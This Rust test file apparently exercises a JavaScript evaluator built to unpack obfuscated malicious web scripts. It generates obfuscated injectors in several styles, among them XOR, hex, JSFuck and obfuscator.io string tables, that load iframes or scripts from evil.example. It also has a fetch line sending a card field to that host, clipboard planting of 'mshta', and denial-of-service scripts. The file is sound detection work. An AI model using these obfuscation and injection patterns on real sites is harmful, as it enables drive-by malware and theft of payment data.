//! Tests of the evaluator: what each family of encodings comes to, however it is written, and that it always ends.

use crate::model::{Looks, Sink};
use proptest::prelude::*;

fn run(script: &str) -> Option<super::Record> {
    super::run(script, 400_000, std::rc::Rc::default())
}

/// What a script writes.
fn written(script: &str) -> String {
    run(script).map(|record| record.markup.join("|")).unwrap_or_default()
}

/// The value of an expression, as text.
fn value(expression: &str) -> String {
    written(&format!("document.write('='+({expression}))")).trim_start_matches('=').to_owned()
}

#[test]
fn values_follow_the_language() {
    for (expression, wanted) in [
        ("1+2*3", "7"),
        ("'1'+2", "12"),
        ("'3'*'4'", "12"),
        ("7%3|8", "9"),
        ("-1>>>28", "15"),
        ("~~7.9", "7"),
        ("0.1+0.2", "0.30000000000000004"),
        ("1e21", "1e+21"),
        ("(255).toString(16)", "ff"),
        ("(0.5).toString(2)", "0.1"),
        ("parseInt('0x1f')+parseInt('12px')+parseInt('z',36)", "78"),
        ("parseFloat('3.5e1x')", "35"),
        ("[]+[]", ""),
        ("[]+{}", "[object Object]"),
        ("![]+[]", "false"),
        ("[][[]]+[]", "undefined"),
        ("+[]", "0"),
        ("[1,[2,3]]+''", "1,2,3"),
        ("typeof null+typeof []+typeof function(){}", "objectobjectfunction"),
        ("null??'a'", "a"),
        ("0||'b'", "b"),
        ("1&&'c'", "c"),
        ("`a${1+1}b`", "a2b"),
        ("(1,2)", "2"),
        ("'abc'['cha'+'rAt'](1)", "b"),
        ("'abc'.charCodeAt(0)+'abc'.codePointAt(1)", "195"),
        ("'abc'.at(-1)+'abcdef'.substr(-3,2)+'abcdef'.substring(4,2)+'abcdef'.slice(1,-3)", "cdecdbc"),
        ("'a-b-c'.split('-').reverse().join('')", "cba"),
        ("'aXbX'.replace(/x/gi,'-')+'aa'.replaceAll('a','b')", "a-b-bb"),
        ("'abc'.replace(/(b)(c)/,'$2$1')+'x'.replace('x',function(m){return m+m})", "acbxx"),
        ("'a1b22'.match(/\\d+/g).length+/b(\\d)/.exec('a1b22')[1]", "22"),
        ("/^a/.test('ab')&&!/^b/.test('ab')", "true"),
        ("'abcabc'.indexOf('c',3)+'abcabc'.lastIndexOf('a')", "8"),
        ("'Ab'.toUpperCase()+'Ab'.toLowerCase()+' t '.trim()+'1'.padStart(3,'0')+'ab'.repeat(2)", "ABabt001abab"),
        ("unescape('%61%u0062')+decodeURIComponent('%E3%81%82')+escape('é')", "abあ%E9"),
        ("atob('YWJj')+btoa('abc')", "abcYWJj"),
        ("String.fromCharCode(97,98)+String.fromCharCode.apply(null,[99])", "abc"),
        ("Math.floor(2.7)+Math.max(1,5,3)+Math.pow(2,3)", "15"),
        ("[3,1,2].sort().concat([4]).map(function(x){return x*2}).filter(x=>x>2).join()", "4,6,8"),
        ("[1,2,3].reduce((a,b)=>a+b)+[1,2].indexOf(2)", "7"),
        ("(function(a){return arguments.length+a})(5,6)", "7"),
        ("(function f(n){return n<2?1:n*f(n-1)})(5)", "120"),
        ("new (function(){this.a='q'})().a", "q"),
        ("({a:{b:'deep'}}).a.b+({['x'+'y']:1}).xy", "deep1"),
        ("[]['flat']['constructor']('return 5')()", "5"),
        ("JSON.parse('{\"a\":[1,2]}').a[1]", "2"),
        ("(()=>{let [a,b]=[1,2];[a,b]=[b,a];return a*10+b})()", "21"),
        ("(()=>{let {p,q=3}={p:2};return p+q})()", "5"),
    ] {
        assert_eq!(value(expression), wanted, "{expression}");
    }
}

#[test]
fn statements_are_followed() {
    for (script, wanted) in [
        ("for(var i=0,s='';i<3;i++)s+=i;document.write('='+s)", "=012"),
        ("var s='',i=3;while(i--)s+=i;document.write('='+s)", "=210"),
        ("var i=0;do{i++}while(i<4);document.write('='+i)", "=4"),
        ("var s='';for(var k in {a:1,b:2})s+=k;for(var v of [7,8])s+=v;document.write('='+s)", "=ab78"),
        ("a:for(var i=0;i<9;i++){for(;;){if(i==4)break a;continue a}}document.write('='+i)", "=4"),
        ("switch(2){case 1:var r='x';case 2:r='y';case 3:r+='z';break;default:r='w'}document.write('='+r)", "=yz"),
        ("try{throw 'e'}catch(x){document.write('='+x)}finally{document.write('f')}", "=ef"),
        ("document.write('='+later());function later(){return 'up'}", "=up"),
        (
            "String.prototype.turn=function(){return this.split('').reverse().join('')};document.write('='+'cba'.turn())",
            "=abc",
        ),
        ("var o={n:'me',say:function(){return this.n}};document.write('='+o.say())", "=me"),
        ("window['k']='v';document.write('='+k)", "=v"),
        ("document.store=['d'];document.write('='+document['store'][0])", "=d"),
        ("if(navigator.userAgent.match(/x/))document.write('=y');else document.write('n')", "=yn"),
        ("setTimeout(function(){document.write('later')},9)", "later"),
        ("window.onload=function(){document.write('loaded')}", "loaded"),
        ("$(function(){$('body').append('<b>q</b>')})", "<b>q</b>"),
        ("eval('var e=\"in\"');document.write('='+e)", "=in"),
        ("new Function('document.write(\"made\")')()", "made"),
        (
            "document.write('<scr'+'ipt>document.write(\"inner\")</scr'+'ipt>')",
            "<script>document.write(\"inner\")</script>|inner",
        ),
    ] {
        assert_eq!(written(script), wanted, "{script}");
    }
}

#[test]
fn elements_addresses_and_looks_are_noted() {
    let script = "if(document.referrer&&document.cookie.indexOf('seen')<0){var s=document.createElement('script');\
        s.async=true;s.setAttribute('src','//evil.example/'+Math.random());document.head.appendChild(s)}";
    let found = run(script).expect("a record");
    assert_eq!(found.elements.len(), 1);
    assert!(found.elements[0].placed);
    assert_eq!(found.elements[0].markup, "<script async=\"true\" src=\"//evil.example/…\"></script>");
    assert!(found.elements[0].after.has(Looks::REFERRER) && found.elements[0].after.has(Looks::COOKIE));
    assert_eq!(found.actions[0].target, "//evil.example/…");
    let sent = run("b.onclick=function(){fetch('//evil.example/?c='+document.getElementById('card').value)}");
    let sent = sent.expect("a record").actions;
    assert_eq!((sent[0].sink, sent[0].waits, sent[0].after.has(Looks::FIELDS)), (Sink::Network, true, true));
    let copied = run("navigator.clipboard.writeText('a'+'b')").expect("a record").actions;
    assert_eq!((copied[0].sink, copied[0].target.as_str()), (Sink::Clipboard, "ab"));
}

/// A generator of numbers from a seed.
struct Seed(u64);

impl Seed {
    fn next(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }

    fn name(&mut self) -> String {
        (0..4 + self.next(4)).map(|_| char::from(b'a' + self.next(26) as u8)).collect()
    }
}

const TARGET: &str = "document.write('<iframe src=\"//evil.example/in\"></iframe>')";
const MARKUP: &str = "<iframe src=\"//evil.example/in\"></iframe>";

/// The ways to hide the target that are generated, each written anew for every seed.
fn hidden(way: u64, seed: &mut Seed) -> String {
    let (a, b, c) = (seed.name() + "1", seed.name() + "2", seed.name() + "3");
    let codes: Vec<String> = TARGET.bytes().map(|byte| byte.to_string()).collect();
    let percent: String = TARGET.bytes().map(|byte| format!("%{byte:02x}")).collect();
    match way {
        0 => {
            let mark = [':', '!', '@', '~'][seed.next(4) as usize];
            let coded = percent.replace('%', &mark.to_string());
            let back = if seed.next(2) == 0 {
                format!("replace(/{mark}/g,'%')")
            } else {
                format!("split('{mark}').join('%')")
            };
            format!("(function(){{var {a}='{coded}',{b}={a}.{back};eval(unescape({b}))}})()")
        }
        1 => {
            let key = 1 + seed.next(20);
            let shifted: Vec<String> = TARGET.bytes().map(|byte| (u64::from(byte) ^ key).to_string()).collect();
            format!(
                "var {a}=[{}],{b}='';for(var {c}=0;{c}<{a}.length;{c}++){b}+=String.fromCharCode({a}[{c}]^{key});window['ev'+'al']({b})",
                shifted.join(",")
            )
        }
        2 => format!(
            "var {a}='{}'.split(' '),{b}='';for(var {c} of {a}){{{b}={b}+String['from'+'CharCode']({c}-0)}}new Function({b})()",
            codes.join(" ")
        ),
        3 => {
            let turned: String = TARGET.chars().rev().collect::<String>().replace('\'', "\\'");
            format!(
                "function {a}({b}){{return {b}.split('').reverse().join('')}}setTimeout({a}('{turned}'),{})",
                seed.next(500)
            )
        }
        4 => {
            let noise = ['#', '!', '@', '^'];
            let noisy: String = TARGET.chars().flat_map(|c| [c, noise[seed.next(4) as usize]]).collect();
            format!(
                "try{{var {a}=\"{}\".replace(/#|!|@|\\^/ig,'');eval({a})}}catch({b}){{}}",
                noisy.replace('"', "\\\"")
            )
        }
        5 => {
            let words: Vec<String> = TARGET.bytes().map(|byte| format!("{byte:x}")).collect();
            format!(
                "var {a}='',{b}='{}';for(var {c}=0;{c}<{b}.length;{c}+=2){{{a}+=String.fromCharCode(parseInt({b}.substr({c},2),16))}}eval({a})",
                words.concat()
            )
        }
        6 => format!("[]['filter']['constructor'](atob('{}'))()", crate::script::text::to_base64(TARGET.as_bytes())),
        _ => {
            let literal: String = TARGET.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("var {a}='{literal}';(0,eval)({a})")
        }
    }
}

#[test]
fn every_way_of_hiding_comes_to_light_however_it_is_written() {
    for way in 0..8 {
        for number in 0..6 {
            let script = hidden(way, &mut Seed(number * 977 + way));
            let found = run(&script).expect("a record");
            assert!(found.markup.iter().any(|markup| markup.contains(MARKUP)), "{way}: {script}\n{found:?}");
            assert!(found.layers.iter().any(|layer| layer.text.contains("evil.example")), "{way}: {:?}", found.layers);
        }
    }
}

/// A string table in the manner of obfuscator.io: an array turned round until a sum of numbers in it is right.
fn string_table(seed: &mut Seed, coded: bool) -> String {
    let words = ["1a", "createElement", "2b", "iframe", "src", "//evil.example/t", "body", "appendChild", "30c"];
    let code = |word: &str| {
        if coded { crate::script::text::to_base64(word.as_bytes()) } else { word.to_owned() }
    };
    let turned = seed.next(8) as usize;
    let list: Vec<String> =
        (0..words.len()).map(|at| format!("'{}'", code(words[(at + turned) % words.len()]))).collect();
    let decode = if coded { "atob(t[n])" } else { "t[n]" };
    format!(
        "function tab(){{var l=[{}];tab=function(){{return l}};return tab()}}\
         function pick(n,k){{var t=tab();return pick=function(n,k){{n=n-0x64;return {decode}}},pick(n,k)}}\
         (function(f,sum){{var g=pick,l=f();while(true){{try{{var got=parseInt(g(0x64))/1*(parseInt(g(0x66))/1)+parseInt(g(0x6c))/1;\
         if(got===sum)break;else l.push(l.shift())}}catch(e){{l.push(l.shift())}}}}}}(tab,0x20));\
         var p=pick,e=document[p(0x65)](p(0x67));e[p(0x68)]=p(0x69);document[p(0x6a)][p(0x6b)](e);",
        list.join(",")
    )
}

#[test]
fn string_tables_are_turned_and_read() {
    for number in 0..6 {
        let found = run(&string_table(&mut Seed(number), number % 2 == 1)).expect("a record");
        let element = found.elements.first().expect("an element");
        assert_eq!(element.markup, "<iframe src=\"//evil.example/t\"></iframe>");
    }
}

#[test]
fn code_without_letters_is_read() {
    // 'fill' and 'constructor' out of booleans, as JSFuck writes them.
    let fill = "(![]+[])[+[]]+([][[]]+[])[!+[]+!+[]+!+[]+!+[]+!+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[!+[]+!+[]]";
    assert_eq!(value(fill), "fill");
    let number = "(+(!+[]+!+[]+[+!+[]]))[\"toString\"](36)";
    assert_eq!(value(number), "l");
    assert_eq!(value("([]['fill']+[])[3]+({}+[])[5]+(+{}+[])[1]"), "cca");
    let run = format!("[][{fill}]['constructor']('document.write(\"<b>no letters</b>\")')()");
    assert_eq!(written(&run), "<b>no letters</b>");
}

#[test]
fn lists_follow_the_language() {
    for (expression, wanted) in [
        ("[1,2,3,4].fill(0,1,3)", "1,0,0,4"),
        ("[1,2,3].fill(7,-1)", "1,2,7"),
        ("[1,2].flatMap(function(x){return [x,x*2]})", "1,2,2,4"),
        ("[5,6,7].reduce(function(s,x,i){return s+i},0)", "3"),
        ("[5,6,7].reduce(function(s,x,i){return s+i})", "8"),
    ] {
        assert_eq!(value(expression), wanted, "{expression}");
    }
}

#[test]
fn what_is_done_on_the_way_hides_nothing() {
    let frame = "<iframe src=//evil.example/in width=0></iframe>";
    let (one, two) = frame.split_at(9);
    for script in [
        format!("document.body.style.top='0px';document.write('{one}'+'{two}')"),
        format!("document.documentElement.style.top=0;window.document.write('{one}'+'{two}')"),
        format!("one='{one}';two='{two}';document.write(one+two)"),
        format!("onward=function(){{return '{two}'}};document.write('{one}'+onward())"),
        format!("var p='{}';eval(p+=\"document.write('{one}'+'{two}')\")", "/*".to_owned() + &"x".repeat(400) + "*/"),
        format!("var s='';'{frame}'.split('').forEach(c=>s+=c);document.write(s)"),
        format!("var s='{one}';s+=(s='','{two}');document.write(s)"),
        format!("document.write('{one}\\\r\n{two}')"),
    ] {
        assert_eq!(written(&script), frame, "{script}");
    }
}

#[test]
fn hostile_scripts_end_within_the_budget() {
    for script in [
        "while(true){}".to_owned(),
        "var s='x';while(1)s+=s".to_owned(),
        "var a=[1];for(var i=0;i<a.length;i++)a.push(i)".to_owned(),
        "function f(){f();f()}f()".to_owned(),
        "eval(x='eval(x)')".to_owned(),
        "function g(){setTimeout(g,1);setTimeout(function(){g()},1)}g()".to_owned(),
        "var o={};o.toString=function(){return o+''};o+''".to_owned(),
        "var c=Function.prototype.call;c.call(c,c,c)".to_owned(),
        "'x'.repeat(1e9);new Array(1e9);'y'.padStart(1e12)".to_owned(),
        "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!');/((a{1000}){1000}){1000}/.exec('a')".to_owned(),
        "var l=[];l[0]=l;l+''".to_owned(),
        "for(;;){document.write('<b>'+Math.random())}".to_owned(),
        "var a=[];a[99999]=1;for(;;)a.fill(1)".to_owned(),
        "var s='a'.repeat(900000);for(;;)({[s]:1})".to_owned(),
        "var s='a'.repeat(900000);for(;;){$(s);s in {};parseInt(s);addEventListener(s)}".to_owned(),
        format!("var a='{}';while(1){{a=a.replace(/a/g,'aa')}}", "a".repeat(10_000)),
        (0..3000).map(|n| format!("var a{}=a{n}+a{n};", n + 1)).collect::<String>().replacen(
            "var a1=",
            "var a0='xx';var a1=",
            1,
        ),
        "[".repeat(100_000),
        format!("{}1{}", "(".repeat(100_000), ")".repeat(100_000)),
        "a+".repeat(100_000),
        format!("var f={}1", "x=>".repeat(20_000)),
        format!("{}1{}", "eval('".repeat(200), "')".repeat(200)),
    ] {
        let _ = run(&script);
    }
}

proptest! {
    #[test]
    fn any_text_is_followed_to_an_end(text in "\\PC{0,200}|[\\[\\](){}'\"`$/\\\\+x0-9a-f%:;.,=!<>?&|^~ ]{0,200}") {
        let _ = run(&text);
    }

    #[test]
    fn pieces_of_scripts_are_followed_to_an_end(parts in prop::collection::vec(prop::sample::select(vec![
        "var a=", "function f(x){", "}", "return ", "a+=", "eval(", ")", "'x'", "[1,2]", "for(;;)", "while(a)", ".length",
        "['constructor']", "new ", "if(a)", "else ", "try{", "}catch(e){", "f(a)", ";", "=>", "`${", "}`", "document.write(",
        "String.fromCharCode(", "97,", "/a/g", ".replace(", ",", "a.b.c", "this", "arguments", "typeof ", "?", ":", "&&",
    ]), 0..40)) {
        let _ = run(&parts.concat());
    }

    #[test]
    fn a_script_with_nothing_to_fold_has_no_layers(name in "[a-z]{3,8}", text in "[a-z ]{0,40}", number in 0_u32..1000) {
        let script = format!("var {name}='{text}';function go(n){{return n*{number}}}console.log({name},go({number}));");
        let found = run(&script).expect("a record");
        prop_assert!(found.layers.is_empty() && found.signs.is_empty() && found.markup.is_empty());
    }
}

#[test]
fn nothing_is_made_beyond_the_room() {
    for bomb in ["eval;new Array(65536).join('x'.repeat(1e6))", "eval;'x'.repeat(1e6).replace(/x+/,'$&'.repeat(5e5))"] {
        assert!(crate::script::report(bomb).cut.is_some(), "{bomb}");
    }
    // Plain searches would take hours.
    let slow = "a='a'.repeat(1e6);b='a'.repeat(5e5)+'b';for(i=0;i<39;i++){a.indexOf(b);a.lastIndexOf(b)}eval('x=1')";
    assert_eq!(crate::script::report(slow).family, None);
}

#[test]
fn long_runs_are_found_where_they_are() {
    let units = |text: &str| text.encode_utf16().collect::<Vec<u16>>();
    for (text, wanted) in [
        ("xxabababababacx", "ababababac"),
        ("aaaaaaaaaaaab", "aaaaaaaaab"),
        ("abcdefghij", "abcdefghij"),
        ("abc", "abcdefghijk"),
    ] {
        assert_eq!(super::string::find(&units(text), &units(wanted)), text.find(wanted), "{wanted} in {text}");
    }
}

#[test]
fn what_a_script_knows_of_itself_is_known() {
    let own = "var s=document.getElementsByTagName('script');document.write('='+s[s.length-1].innerHTML.length)";
    assert_eq!(written(own), format!("={}", own.len()));
    let copied = "var a=document.createElement('textarea');a.value='ms'+'hta';a.select();document.execCommand('copy')";
    let found = run(copied).expect("a record").actions;
    assert!(found.iter().any(|action| action.sink == Sink::Clipboard && action.target == "mshta"), "{found:?}");
    let sent = "var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','/a');x.send()";
    let found = run(sent).expect("a record").actions;
    assert!(found.iter().any(|action| action.sink == Sink::Eval && action.target == "…"), "{found:?}");
}

#[test]
fn an_address_of_letters_in_another_order_is_hidden() {
    let address = "https://evil.example/in";
    let mut mixed = vec![' '; address.len()];
    address.chars().enumerate().for_each(|(at, letter)| mixed[(3 + at * 7) % address.len()] = letter);
    let mixed: String = mixed.into_iter().collect();
    let script = format!(
        "function c(n,e,i){{for(var t=e%n.length,r='';r.length<n.length;t=(t+i)%n.length)r+=n.charAt(t);return r}}\
         var s=document.createElement('script');s.src=c('{mixed}',3,7);document.head.appendChild(s)"
    );
    let found = run(&script).expect("a record");
    assert_eq!(found.elements[0].markup, format!("<script src=\"{address}\"></script>"));
    assert!(found.signs.iter().any(|(sign, _)| *sign == crate::model::ScriptSign::HiddenAddress), "{:?}", found.signs);
    let clear = run("var h='https://evil.example/in',r='';for(var i=0;i<h.length;i++)r+=h.charAt(i);fetch(r)");
    assert!(clear.expect("a record").signs.is_empty());
}
